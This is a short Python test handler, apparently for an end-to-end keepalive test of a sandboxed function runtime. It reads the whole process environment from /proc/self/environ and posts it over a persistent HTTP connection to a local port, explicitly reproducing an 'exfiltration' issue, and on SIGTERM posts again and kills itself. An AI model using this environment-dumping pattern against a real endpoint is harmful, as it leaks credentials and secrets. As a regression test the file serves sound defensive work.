# Python handler for tests/e2e/keepalive.sh: posts the process environment (the exfiltration
# of issue 14) to KA_PORT on one http.client connection kept open across invocations. At
# SIGTERM (the sandbox shutting down) it posts once more, then kills itself without closing.
import http.client
import os
import signal

conn = http.client.HTTPConnection("127.0.0.1", int(os.environ["KA_PORT"]), timeout=5)


def post(path, body):
    conn.request("POST", path, body=body)
    r = conn.getresponse()
    r.read()
    return r.status


def on_term(signum, frame):
    post("/py/at-shutdown", b"s" * 1000)
    os.kill(os.getpid(), signal.SIGKILL)


signal.signal(signal.SIGTERM, on_term)


def handler(event, context):
    with open("/proc/self/environ", "rb") as f:
        env = f.read()
    return {"status": post("/py/" + context.aws_request_id, env)}
